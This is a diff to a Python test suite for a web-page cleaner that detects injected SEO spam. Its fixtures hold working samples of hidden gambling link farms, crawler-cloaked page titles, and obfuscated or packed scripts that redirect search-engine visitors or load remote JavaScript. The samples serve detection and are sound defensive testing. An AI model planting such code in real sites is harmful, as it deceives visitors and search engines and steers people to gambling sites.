@@ -50,8 +50,8 @@ FOLDED = f"<p style='display:none'>{LINKS}</p>"
 
 def packed(code: str) -> str:
     """Return *code* as the packer writes it that most minifying sites use: its words by number."""
-    words = list(dict.fromkeys(re.findall(r"[A-Za-z]\w*", code)))
-    numbered = re.sub(r"[A-Za-z]\w*", lambda match: base36(words.index(match.group())), code)
+    words = list(dict.fromkeys(re.findall(r"\w+", code)))
+    numbered = re.sub(r"\w+", lambda match: base36(words.index(match.group())), code).replace("\\", "\\\\")
     return (
         "<script>eval(function(p,a,c,k,e,d){while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+c.toString(a)+'\\\\b','g'),k[c])}}"
         f"return p}}('{numbered.replace(chr(39), chr(92) + chr(39))}',36,{len(words)},'{'|'.join(words)}'.split('|'),0,{{}}))</script>"
@@ -123,7 +123,64 @@ FARMS = {
     ),
     "set by a script": f"<script>document.body.innerHTML+='<p style=\"display:none\">{LINKS}</p>'</script>",
     "packed": packed(f"document.write('<p style=\"display:none\">{LINKS}</p>')"),
+    "on the ground of an element around them": f'<div style="background:#eee"><p style="color:#eeeeee">{LINKS}</p></div>',
+    "in mixed colours": f'<p style="background:rgb(255,255,255);color:rgb(255, 255, 255)">{LINKS}</p>',
+    "in a colour without any": f'<p style="color:rgba(0,0,0,0)">{LINKS}</p>',
+    "an old browser's sum": f'<div style="position:absolute;left:expression(1-900)">{LINKS}</div>',
+    "a sum": f'<div style="position:absolute;left:calc(-100% - 900px)">{LINKS}</div>',
+    "letters upon each other": f'<p style="letter-spacing:-999px">{LINKS}</p>',
+    "turned on edge": f'<p style="transform:rotateX(90deg)">{LINKS}</p>',
+    "clipped to a point": f'<p style="clip-path:polygon(0 0, 0 0, 0 0)">{LINKS}</p>',
+    "a table without size": f"<table width=0 height=0><tr><td>{LINKS}</td></tr></table>",
+    "a dialog": f"<dialog>{LINKS}</dialog>",
+    "folded details": f"<details>{LINKS}</details>",
+    "by a sheet that names no element": f'<style>div[id^=zz]{{display:none}}</style><div id="zz1">{LINKS}</div>',
+    "by a script that takes them away": f'<p id="q7">{LINKS}</p><script>document.getElementById("q7").remove()</script>',
+    "in plain sight": f"<p>友情链接：{LINKS}</p>",
+    "behind a tag that nobody closes": (
+        f"<script>document.write(\"<marquee scrollAmount=5000 width='1' height='5'>\");</script>{LINKS}"
+    ),
+    "brands of ten years later": '<p style="display:none">'
+    + "".join(
+        f'<a href="https://www.{n}kaiyun.com/">{name}</a>'
+        for n, name in enumerate(("开云·体育(中国)官方网站", "九游会登录入口", "PG电子bet", "乐鱼体育"))
+    )
+    + "</p>",
 }
+GENERIC = "".join(
+    f'<a href="http://www.bet{n}zhsq.com/">{text}</a>'
+    for n, text in enumerate(("外墙清洗公司", "不锈钢水箱", "减肥药排行榜", "搜索引擎优化"))
+)
+
+
+@pytest.mark.parametrize(
+    "farm",
+    [
+        f'<div style="display:none">{GENERIC}</div>',
+        f'<div style="position:absolute;left:-3000px">{GENERIC}</div>',
+        f'<div style="background-color:#f5f5f5"><p style="color:#f5f5f5">{GENERIC}</p></div>',
+        f"<script>document.write('<div style=\"position:absolute;left:-3000px\">')</script>{GENERIC}",
+        f"<script>document.writeln(\"<marquee scrollAmount=10000 width='1' height='6'>\")</script><p>{GENERIC}</p>",
+    ],
+)
+def test_hidden_links_of_any_trade_are_dropped(farm: str) -> None:
+    inside = page().replace("<p>农技", farm + "<p>农技")
+    (document,) = read_documents(inside.encode(), URL)
+    assert [one.kind for one in document.injections] == ["hidden-links"]
+    assert "水箱" not in document.text
+    assert len(document.paragraphs) == 3
+
+
+def test_links_in_sight_go_only_where_nobody_but_spammers_words_them_so() -> None:
+    def linked(*texts: str) -> str:
+        return page(
+            "<p>" + "".join(f'<a href="http://www.s{n}.com/">{text}</a>' for n, text in enumerate(texts)) + "</p>"
+        )
+
+    assert kinds(linked("棋牌游戏下载", "百家乐", "时时彩平台")) == {"hidden-links"}
+    assert kinds(linked("警方捣毁地下赌场", "男子沉迷百家乐欠债百万", "六合彩庄家落网", "警惕网络棋牌赌博")) == set()
+    assert kinds(linked("石门棋牌协会", "湖南福利彩票网", "石门新闻网")) == set()
+    assert kinds(linked("棋牌游戏下载", "石门新闻网")) == set()
 
 
 @pytest.mark.parametrize("how", FARMS)
@@ -189,6 +246,28 @@ HIDDEN_BY_PORTALS = {
     "a floating picture": '<script>document.write(\'<div style="position:absolute;left:10px">'
     '<a href="http://www.smtour.com/">旅游节</a></div>\')</script>',
     "a counter for old browsers": '<noscript><a href="http://www.51yes.com/"><img src="http://count.51yes.com/1.gif"></a></noscript>',
+    "reports of raids in a tab": '<div id="tab2" style="display:none">'
+    + "".join(
+        f'<a href="http://www.{n}news.com/">{title}</a>'
+        for n, title in enumerate(("警方捣毁地下赌场", "男子沉迷百家乐欠债百万", "六合彩庄家落网", "代孕案宣判"))
+    )
+    + "</div>",
+    "white links on a dark ground": '<div style="background:#c00"><a style="color:#fff" href="http://www.smtour.com/">旅游</a>'
+    '<p style="color:#ffffff"><a href="http://www.smtea.com/">茶叶</a><a href="http://www.smfruit.com/">柑橘</a></p></div>',
+    "white links where a sheet may colour the ground": '<div class="foot"><p style="color:#ffffff">'
+    '<a href="http://www.smtour.com/">旅游</a><a href="http://www.smtea.com/">茶叶</a><a href="http://www.smfruit.com/">柑橘</a></p></div>',
+    "pictures without space between them": '<div style="font-size:0;line-height:0"><a href="http://www.smtour.com/"><img src="/1.gif"></a>'
+    '<a href="http://www.smtea.com/"><img src="/2.gif"></a><a href="http://www.smfruit.com/"><img src="/3.gif"></a></div>',
+    "where readers come from": "<script>var r=document.referrer;if(r.indexOf('baidu')>0){c('baidu')}else if(r.indexOf('google')>0)"
+    "{c('google')}else if(r.indexOf('sogou')>0){c('sogou')}function go(){window.location.href='/login'}</script>",
+    "words that were searched for": "<script>if(/baidu|google|sogou|so\\.com/.test(document.referrer)){mark()}"
+    "function page(n){location.href='index_'+n+'.html'}</script>",
+    "a page of its own for phones beside a counter": "<script>hm.src='//hm.baidu.com/hm.js?1';"
+    "if(/Android/.test(navigator.userAgent)){location.href='http://m.shimen-web.com/'}</script>",
+    "a way out of frames": "<script>if(top.location!==self.location&&document.referrer.indexOf('baidu.com')<0)"
+    "{top.location.href=location.href}</script>",
+    "a title that a script sets": "<script>document.title='石门镇举行春耕培训'</script>",
+    "a packed menu": packed("document.write('<div><a href=\"/zwgk/\">政务公开</a></div>')"),
     "an image of one pixel": '<img src="/c.gif" style="width:1px;height:1px">'
     '<iframe style="display:none" src="/visit.jsp"></iframe>',
 }
@@ -229,7 +308,10 @@ def test_a_forged_title_in_entities_is_emptied_and_names_nothing() -> None:
     line = "金盛棋牌(中国)官方网站"
     forged = page(title="".join(f"&#x{ord(c):X};" for c in line))
     root, cleaning = clean(forged)
-    assert [(one.kind, one.excerpt, one.where) for one in cleaning.findings] == [("encoded-title", line, "title")]
+    assert [(one.kind, one.excerpt, one.where) for one in cleaning.findings] == [
+        ("encoded-title", line, "title"),
+        ("keyword-title", line, "title"),
+    ]
     assert root.findtext(".//title") == ""
     (document,) = read_documents(forged.encode(), URL)
     assert document.title == "石门镇举行春耕培训"
@@ -252,6 +334,66 @@ def test_a_page_that_a_program_writes_in_entities_throughout_is_genuine() -> Non
 )
 def test_titles_of_several_terms_are_titles(title: str) -> None:
     assert kinds(page(title=title)) == set()
+
+
+CLOAKED = "石门镇举行春耕培训-石门县人民政府"
+SWAPS = (
+    f'<script>if(navigator.userAgent.toLocaleLowerCase().indexOf("baidu") == -1){{document.title ="{CLOAKED}"}}</script>',
+    f"<script>if(!navigator.userAgent.match(/baiduspider|sogou|360spider/i)){{document.title ='{CLOAKED}'}}</script>",
+)
+LINES = (
+    "北京赛车pk10投注平台_北京赛车pk10官网",
+    "beplay体育app下载-【welcome】",
+    "PG电子·(中国)官方网站",
+    "开云·体育(中国)官方网站-登录入口",
+    "九游会老哥俱乐部",
+    "抢庄牛牛游戏平台,真钱抢庄牛牛游戏",
+    "世界杯外围网站-ios/安卓/手机版app下载",
+)
+
+
+@pytest.mark.parametrize("line", LINES)
+@pytest.mark.parametrize("way", ["plain", "in entities", *SWAPS, "before the page"])
+def test_titles_for_search_engines_are_told_however_they_are_put(line: str, way: str) -> None:
+    put = "".join(f"&#{ord(c)};" for c in line) if way == "in entities" else line
+    head = f'<meta name="keywords" content="{put}"><meta name="description" content="{put}为您提供最新平台。">'
+    swap = way if way in SWAPS else ""
+    text = f"<title>{line}</title>" + page() if way == "before the page" else page(title=put, head=head + swap)
+    (document,) = read_documents(text.encode(), URL)
+    assert {one.kind for one in document.injections} <= {"keyword-title", "encoded-title"}
+    assert line in {one.excerpt for one in document.injections}
+    assert document.title == "石门镇举行春耕培训"
+    root, _ = clean(text)
+    assert [meta.get("content", "") for meta in root.iter("meta") if meta.get("name")] in ([], ["", ""])
+    assert [title.text for title in root.iter("title")] == (
+        [CLOAKED] if swap else ["", "石门镇举行春耕培训_石门县人民政府"] if way == "before the page" else [""]
+    )
+
+
+def test_what_a_title_says_besides_keywords_stays() -> None:
+    root, cleaning = clean(
+        page(title="开云体育(中国)官方网站-石门镇举行春耕培训_石门县人民政府").replace(
+            ARTICLE, ARTICLE + "石门县人民政府主办"
+        )
+    )
+    assert [one.kind for one in cleaning.findings] == ["keyword-title"]
+    assert root.findtext(".//title") == "石门镇举行春耕培训_石门县人民政府"
+
+
+@pytest.mark.parametrize(
+    ("title", "opening"),
+    [
+        ("禁毒大队查获一起案件", "禁毒民警查获一起网上贩卖迷药、催情药案件，收缴三唑仑八十片。"),
+        ("反诈中心提醒", "反诈中心提醒，刷单、网赚、贷款平台、代开发票均为常见骗局。"),
+        ("我县赴澳门推介茶叶", "茶叶摆进澳门银河、威尼斯人展馆，澳门葡京酒店前来采购。"),
+    ],
+)
+def test_a_description_that_opens_the_article_is_no_row_of_keywords(title: str, opening: str) -> None:
+    head = f'<meta name="keywords" content="扫黄打非,禁毒,禁赌,打击赌博平台,打击博彩网站"><meta name="description" content="{opening}">'
+    text = page(title=title, head=head).replace("<p>3月12日", f"<p>{opening}</p><p>3月12日")
+    (document,) = read_documents(text.encode(), URL)
+    assert document.injections == ()
+    assert document.paragraphs[0] == opening
 
 
 def test_tags_of_a_random_id_are_dropped_and_what_they_hold_is_kept() -> None:
@@ -277,6 +419,41 @@ def test_scripts_that_send_away_who_comes_from_a_search_engine_are_found() -> No
     root, cleaning = clean(page(f"<script>{REDIRECT % 8}</script>"))
     assert [one.kind for one in cleaning.findings] == ["script-redirect"]
     assert not [s for s in root.iter("script") if s.text]
+
+
+ELSEWHERE = "https://www.ag868.com/"
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        f"if(!/baiduspider|sogou|360spider/i.test(navigator.userAgent)){{window.location='{ELSEWHERE}'}}",
+        f"if(/(baidu|sogou)\\.com/i.test(document.referrer)){{setTimeout(function(){{location.href='{ELSEWHERE}'}},10)}}",
+        f"if(document['referrer']['indexOf']('baidu')!=-1){{window['location']['href']='{ELSEWHERE}'}}",
+        f"var s=document.referrer;if(s.indexOf('baidu')>0){{top.location='{ELSEWHERE}'}}",
+        f"var s=document.referrer;if(s.indexOf('sm.cn')>0){{window.open('{ELSEWHERE}','_self')}}",
+        f"const s=document.referrer;if(s.includes('baidu')){{location.href=`{ELSEWHERE}`}}",
+        f"var u='{ELSEWHERE}';if(document.referrer.match(/baidu|sogou/)){{location.replace(u)}}",
+        f"var s=document.referrer;if(s.match(/baidu|so/)){{location.replace(atob('{b64encode(ELSEWHERE.encode()).decode()}'))}}",
+        f"if(document.referrer.indexOf('baidu')>0){{document.write('<script src=\"{ELSEWHERE}x.js\"><\\/script>')}}",
+        f"if(document.referrer.indexOf('baidu')>0){{document.write('<iframe src=\"{ELSEWHERE}\"></iframe>')}}",
+        f"if(document.referrer.indexOf('baidu')>0){{eval(\"'{ELSEWHERE[::-1]}'=ferh.noitacol\".split('').reverse().join(''))}}",
+        'var _0xb4=["referrer","baidu","indexOf","href","' + ELSEWHERE + '"];(function(){var r=document[_0xb4[0]];'
+        "if(r[_0xb4[0x2]](_0xb4[1])>0){location[_0xb4[3]]=_0xb4[4]}})()",
+    ],
+)
+def test_ways_of_sending_readers_away_are_found(code: str) -> None:
+    assert kinds(page(f"<script>{code}</script>")) == {"script-redirect"}
+    assert kinds(page(packed(code))) == {"script-redirect"}
+
+
+def test_a_script_that_is_packed_only_to_hide_whose_script_it_fetches_is_found() -> None:
+    def fetching(host: str) -> str:
+        return packed(f'window["document"]["write"](\'<script src="https://{host}/yb.js"></script>\');')
+
+    assert kinds(page(fetching("www.zzxjs.com"))) == {"script-redirect"}
+    assert kinds(page(packed(re.sub("</?script>", "", fetching("www.zzxjs.com"))))) == {"script-redirect"}
+    assert kinds(page(fetching("s4.cnzz.com"))) == set()
 
 
 def test_scripts_that_hide_behind_codes_are_read() -> None:
